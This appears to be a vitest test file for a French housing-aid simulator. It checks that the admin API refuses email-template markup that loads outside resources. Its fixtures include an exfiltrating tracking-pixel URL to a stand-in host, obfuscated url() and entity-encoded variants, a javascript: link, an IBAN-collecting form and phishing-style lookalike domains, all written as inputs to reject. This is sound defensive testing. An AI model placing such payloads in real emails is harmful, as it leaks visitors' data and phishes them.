/**
 * The result e-mail's template was the editors' raw HTML (issue 26): an `<img src="https://…?n={{prenom}}
 * &r={{lien_resultats}}">` sent every visitor's name and results link to whoever wrote it, and a misspelt
 * `{{variable}}` saved without a word and came out empty. Now editors write the words of the blocks (escaped
 * at render), only an admin changes the structure, which may load nothing from elsewhere, and an unknown
 * `{{…}}` is refused at save, named.
 */
import { load } from 'cheerio';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEFAULT_RESULT_TEMPLATES,
  ensureEmailTemplates,
  RESULT_TEMPLATE_KEYS,
  resultEmail,
} from '../../api/services/result-email.ts';
import { emailTemplate } from '../../db/queries/email.ts';
import { emailTemplates } from '../../db/tables.ts';
import { createTestApp, type TestApp } from '../support/admin-app.ts';
import { ELIGIBLE } from '../support/results.ts';

const KEY = RESULT_TEMPLATE_KEYS.fr;
const PIXEL = 'https://traceur.example/p.gif?n={{prenom}}-{{nom}}&r={{lien_resultats}}';

let t: TestApp;
let admin: string;
let editor: string;
beforeAll(async () => {
  t = await createTestApp();
  await ensureEmailTemplates(t.db);
  admin = (await t.signIn('admin-modeles@apl.example', ['admin'])).cookie;
  editor = (await t.signIn('editrice-modeles@apl.example', ['editor'])).cookie;
}, 60_000);
afterAll(() => t?.close());

const put = (path: string, json: unknown, cookie: string) =>
  t.request(`/api/admin/email/templates/${KEY}${path}`, { method: 'PUT', cookie, json });
const structure = (html: string, cookie = admin) =>
  put('/structure', { html, text: DEFAULT_RESULT_TEMPLATES.fr.text }, cookie);
const words = (blocks: Record<string, string>, subject = DEFAULT_RESULT_TEMPLATES.fr.subject) =>
  put(
    '',
    { name: 'Résultat', subject, blocks: { ...DEFAULT_RESULT_TEMPLATES.fr.blocks, ...blocks } },
    editor,
  );

/** The result e-mail a visitor named « Camille Martin » would receive now. */
async function mailNow() {
  return resultEmail(t.db, {
    result: ELIGIBLE,
    form: { postalCode: '69001', communeName: 'Lyon', rent: 500, income: 800, livingAlone: true },
    firstName: 'Camille',
    lastName: 'Martin',
    resultsUrl: `${new URL(t.env.SITE_URL).origin}/resultats/secret-123`,
  });
}

/** Nothing in the HTML would be fetched from another host when the message is opened. */
function loadsNothingElsewhere(html: string) {
  expect(html).not.toContain('traceur.example');
  const $ = load(html);
  expect($('script, link, style, iframe, form, object, embed')).toHaveLength(0);
  const own = new URL(t.env.SITE_URL).origin;
  $('img').each((_, img) => expect($(img).attr('src')?.startsWith(`${own}/media/`)).toBe(true));
}

describe('the structure of the result e-mail', () => {
  it("is an admin's: an editor cannot change it", async () => {
    const res = await structure(`<p>{{bloc:hello}} {{prenom}}</p><img src="${PIXEL}">`, editor);
    expect(res.status).toBe(403);
    expect((await emailTemplate(t.db, KEY))?.html).toBe(DEFAULT_RESULT_TEMPLATES.fr.html);
  });

  it.each([
    [`<img src="${PIXEL}">`, 'ressource extérieure'],
    ['<img src="//traceur.example/p.gif">', 'ressource extérieure'],
    ['<img src="&#104;ttps://traceur.example/p.gif">', 'ressource extérieure'],
    ['<img src="/media/{{prenom}}.png">', 'ressource extérieure'],
    [
      '<table><tr><td background="https://traceur.example/bg.png">x</td></tr></table>',
      'ressource extérieure',
    ],
    ['<img src="/media/logo.png" srcset="https://traceur.example/a.png 2x">', 'srcset'],
    ['<p style="background:url(https://traceur.example/x)">x</p>', 'url()'],
    ['<p style="background:u\\72l(https://traceur.example/x)">x</p>', 'url()'],
    ['<link rel="stylesheet" href="https://traceur.example/s.css">', '<link>'],
    ['<style>@import url(https://traceur.example/s.css);</style>', '<style>'],
    ['<script src="https://traceur.example/x.js"></script>', '<script>'],
    ['<form action="https://traceur.example/"><input name="iban"></form>', '<form>'],
    ['<a href="https://traceur.example/?n={{prenom}}">x</a>', 'lien'],
    ['<a href="javascript:alert(1)">x</a>', 'lien'],
    ['<p onclick="x()">x</p>', 'onclick'],
    ['<!--[if mso]><v:image src="https://traceur.example/x.png"/><![endif]-->', 'commentaire'],
  ])('refuses %s at save, in French', async (markup, why) => {
    const res = await structure(`<p>{{bloc:hello}} {{prenom}}</p>${markup}`);
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: string }).error).toContain(why);
    expect((await emailTemplate(t.db, KEY))?.html).toBe(DEFAULT_RESULT_TEMPLATES.fr.html);
  });

  it("accepts the site's own images, relative or on its own origin", async () => {
    const own = new URL(t.env.SITE_URL).origin;
    const html = `<p>{{bloc:hello}} {{prenom}}</p><img src="/media/logo.png" alt=""><img src="${own}/media/b.png" alt="">`;
    expect((await structure(html)).status).toBe(200);
    expect((await structure(DEFAULT_RESULT_TEMPLATES.fr.html)).status).toBe(200);
  });
});

describe('the words of the blocks', () => {
  it("are an editor's plain text: markup in them reaches the visitor as text, never as an image", async () => {
    expect((await words({ hello: '<img src="/media/p.gif">Bonjour' })).status).toBe(200);
    const mail = await mailNow();
    expect(load(mail.html)('img')).toHaveLength(0);
    expect(load(mail.html)('p').first().text()).toContain('<img src="/media/p.gif">');
    expect((await words({})).status).toBe(200);
  });

  it.each<[{ blocks: Record<string, string>; subject?: string }, string]>([
    [{ blocks: { hello: 'Bonjour {{prenon}}' } }, '« {{prenon}} »'],
    [{ blocks: { intro: 'Votre aide {{{details_html}}}' } }, '« {{{details_html}}} »'],
    [{ blocks: { inconnu: 'x {{lien_resultats}}' } }, 'Bloc inconnu : « inconnu »'],
    [{ blocks: {}, subject: 'Votre APL : {{montnat}}' }, '« {{montnat}} »'],
  ])('refuses an unknown {{variable}} or block at save, naming it: %j', async (edit, named) => {
    const res = await words(edit.blocks, edit.subject);
    expect(res.status).toBe(400);
    const { error } = (await res.json()) as { error: string };
    expect(error).toContain(named);
  });

  it.each<[{ blocks: Record<string, string>; subject?: string }, string]>([
    [{ blocks: { hello: `<img src="${PIXEL}">Bonjour` } }, '« https://traceur.example'],
    [{ blocks: { link: 'Votre dossier est bloqué : réglez sur www.caf-aide.com' } }, '« www.caf-aide.com »'],
    [
      { blocks: { why: 'Confirmez sur caf-remboursement.fr/dossier?r={{lien_resultats}}' } },
      'caf-remboursement.fr',
    ],
    [{ blocks: {}, subject: 'Action requise : http://bit.ly/x' }, '« http://bit.ly »'],
  ])('refuses words that send the reader elsewhere (a phishing channel): %j', async (edit, named) => {
    const res = await words(edit.blocks, edit.subject);
    expect(res.status).toBe(400);
    const { error } = (await res.json()) as { error: string };
    expect(error).toContain('Adresse web non permise');
    expect(error).toContain(named);
    expect((await emailTemplate(t.db, KEY))?.subject).not.toContain('bit.ly');
  });

  it('accepts the public services and the site itself in the words', async () => {
    const res = await words({
      link: 'Faites votre demande sur caf.fr ou https://www.service-public.fr/particuliers/vosdroits/F12006',
      why: 'Écrivez-nous depuis https://www.apl-simulateur.fr/contact',
    });
    expect(res.status).toBe(200);
    expect((await words({})).status).toBe(200);
  });

  it('refuses an unknown {{variable}}, block or fragment in the structure', async () => {
    for (const [html, named] of [
      ['<p>{{bloc:salut}}</p>', '« {{bloc:salut}} »'],
      ['<p>{{{prenom}}}</p>', '« {{{prenom}}} »'],
      ['<p>{{firstName}}</p>', '« {{firstName}} »'],
    ] as const) {
      const res = await structure(html);
      expect(res.status).toBe(400);
      const { error } = (await res.json()) as { error: string };
      expect(error).toContain(named);
      // And what the structure may name instead.
      expect(error).toMatch(
        /Permises ici : .*\{\{lien_resultats\}\}.*\{\{\{details_html\}\}\}.*\{\{bloc:hello\}\}/,
      );
    }
  });
});

describe('saving the words', () => {
  it('keeps the words of a block left out', async () => {
    const res = await put('', { name: 'Résultat', subject: 'Objet', blocks: { hello: 'Salut' } }, editor);
    expect(res.status).toBe(200);
    const stored = await emailTemplate(t.db, KEY);
    expect(stored?.blocks).toEqual({ ...DEFAULT_RESULT_TEMPLATES.fr.blocks, hello: 'Salut' });
    expect((await words({})).status).toBe(200);
  });
});

describe('a template stored before blocks existed', () => {
  /** The former default: the same structure with the words written in it. */
  const formerly = (structure: string, words: Record<string, string>) =>
    structure.replace(/\{\{bloc:(\w+)\}\}/g, (_, name: string) => words[name] ?? '');

  it('keeps its words, now as blocks, and the e-mail reads the same', async () => {
    const edited = { ...DEFAULT_RESULT_TEMPLATES.fr.blocks, hello: 'Salut', why: 'Parce que &amp; voilà' };
    const { html, text } = DEFAULT_RESULT_TEMPLATES.fr;
    await t.db
      .update(emailTemplates)
      .set({ html: formerly(html, edited), text: formerly(text, edited), blocks: null })
      .where(eq(emailTemplates.key, KEY));
    await ensureEmailTemplates(t.db);
    const stored = await emailTemplate(t.db, KEY);
    expect(stored?.blocks).toMatchObject({ hello: 'Salut', why: 'Parce que & voilà' });
    expect(stored?.html).toBe(html);
    const mail = await mailNow();
    expect(mail.text).toMatch(/^Salut Camille,/);
    expect(load(mail.html)('p').last().text()).toBe('Parce que & voilà');
  });

  it('with a tracking pixel in it, still works and sends nothing elsewhere', async () => {
    await t.db
      .update(emailTemplates)
      .set({ html: `<p>Bonjour {{prenom}}</p><img src="${PIXEL}"><img src="/media/logo.png">`, blocks: null })
      .where(eq(emailTemplates.key, KEY));
    await ensureEmailTemplates(t.db);
    const mail = await mailNow();
    expect(load(mail.html)('p').first().text()).toBe('Bonjour Camille');
    loadsNothingElsewhere(mail.html);
    expect(load(mail.html)('img')).toHaveLength(1);
  });
});
